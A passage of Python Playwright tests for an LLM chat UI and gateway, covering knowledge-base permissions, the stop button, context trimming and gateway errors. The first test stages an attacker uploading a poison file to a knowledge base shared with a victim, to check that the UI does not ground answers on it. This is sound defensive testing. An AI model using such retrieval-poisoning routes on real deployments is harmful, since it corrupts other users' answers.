    made = httpx.post(f"{gateway}/v1/knowledge_bases", headers=mallory, timeout=300,
                      json={"name": "trap", "writers": ["mallory", victim]})
    assert made.status_code == 400 and made.json()["error"]["code"] == "unknown_grantee"
    # Nor can an admin's key of the victim's name pass for the UI's: the UI never adopts it.
    planted = create_key(chat_ui.gateway.home, "--name", victim)

    gina = Chat(browser, chat_ui, "gina")
    gina.wait_for_text("Welcome to the")
    name, secret = chat_ui.user_key("gina")
    assert name != victim and secret != planted

    # A base made for Gina but shared with the attacker since (as a gateway before this
    # reservation let any key make one): the UI neither uploads to it nor grounds on it.
    service = {"authorization": f"Bearer {chat_ui.service_key}"}
    made = httpx.post(f"{gateway}/v1/knowledge_bases", headers=service, timeout=300,
                      json={"name": name, "writers": [name, "mallory"]})
    assert made.status_code == 201, made.text
    uploaded = httpx.post(f"{gateway}/v1/knowledge_bases/{name}/files", headers=mallory,
                          files=poison, timeout=300)
    assert uploaded.status_code == 200, uploaded.text
    notes = tmp_path / "gina-notes.txt"
    notes.write_bytes(NOTES)
    _send_with_file(gina, notes, "What is the lighthouse code word?")
    gina.wait_for_text("was not made by this chat UI for you")
    files = httpx.get(f"{gateway}/v1/knowledge_bases/{name}/files", headers=service, timeout=60)
    assert [f["name"] for f in files.json()["data"]] == ["faq.txt"]  # hers never went there
    assert chat_ui.requests(name) == []  # and her question was not answered from it
    gina.close()


def test_settings_panel_and_stop_button_cancel_the_gateway_request(
    chat_ui: ChatUI, browser: object, screenshots: Path
) -> None:
    alice = Chat(browser, chat_ui, "alice")
    alice.wait_for_text("Welcome to the")
    alice.page.locator("#chat-settings-open-modal").click()
    alice.page.locator("#max_tokens").fill("500")  # the most a 1024-token context allows
    alice.page.locator("#confirm").click()
    alice.page.locator("#confirm").wait_for(state="hidden")
    key = chat_ui.user_key("alice")[0]
    # Random weights may end an answer (EOS) before the click lands, and on a busy machine the
    # tiny model may write all 500 tokens before it does (the page still showing them): then
    # the round proves nothing and is tried again.
    for _ in range(4):
        before, tokens = len(chat_ui.requests(key)), alice.stream_tokens
        alice.send("Write a very long poem about the sea.")
        wait_on_page(alice.page, lambda start=tokens: alice.stream_tokens >= start + 3,
                     "streamed tokens")
        with contextlib.suppress(PlaywrightTimeout):  # the answer ended first: no button
            # force: the button re-renders with every token, so it never holds still for the
            # usual "stable" check on a busy machine.
            alice.page.locator("#stop-button").click(force=True, timeout=5_000)
        # The gateway's log line comes when the request ends: long before 500 tokens when the
        # stop closed the connection (the gateway then aborts the engine's request).
        wait_on_page(alice.page, lambda before=before: len(chat_ui.requests(key)) == before + 1,
                     "the request to end")
        stopped = chat_ui.requests(key)[-1]
        if (stopped.get("completion_tokens") or 0) < 500:
            break
    assert (stopped.get("completion_tokens") or 0) < 500, stopped
    alice.page.screenshot(path=str(screenshots / "alice-stopped.png"))
    alice.close()


def test_long_chats_are_trimmed_and_errors_are_messages_in_the_chat(
    chat_ui: ChatUI, browser: object, screenshots: Path
) -> None:
    bob = Chat(browser, chat_ui, "bob", locale="zh-CN")
    bob.wait_for_text("欢迎使用")
    key = chat_ui.user_key("bob")[0]
    # 500 Chinese characters: at most 500 tokens each, so one turn fits the 1024-token context
    # and two do not.
    bob.send("你好" * 250)
    wait_on_page(bob.page, lambda: len(chat_ui.requests(key)) == 1, "the first answer")
    bob.send("再见" * 250)
    bob.wait_for_text("最早的 1 轮对话未发送给模型")
    wait_on_page(bob.page, lambda: len(chat_ui.requests(key)) == 2, "the second answer")
    assert chat_ui.requests(key)[-1]["status"] == 200

    bob.send("lighthouse " * 1500)  # over 1024 tokens on its own
    bob.wait_for_text("您的消息太长")
    bob.page.screenshot(path=str(screenshots / "bob-trimmed-and-too-long.png"))

    chat_ui.gateway.stop()
    bob.send("你好")
    bob.wait_for_text("无法连接到网关")
    bob.page.screenshot(path=str(screenshots / "bob-gateway-down.png"))
    bob.close()

